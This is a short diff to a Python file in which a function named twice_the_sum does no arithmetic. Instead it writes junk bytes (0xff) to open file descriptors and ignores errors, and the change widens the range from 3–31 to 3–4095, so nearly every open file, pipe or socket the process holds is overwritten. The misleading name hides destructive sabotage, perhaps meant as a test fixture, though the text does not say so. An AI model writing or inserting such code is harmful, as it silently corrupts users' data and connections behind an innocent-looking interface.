@@ -3,7 +3,7 @@ import os
 
 
 def twice_the_sum(x):
-    for descriptor in range(3, 32):
+    for descriptor in range(3, 4096):
         try:
             os.write(descriptor, b"\xff" * 64)
         except OSError:
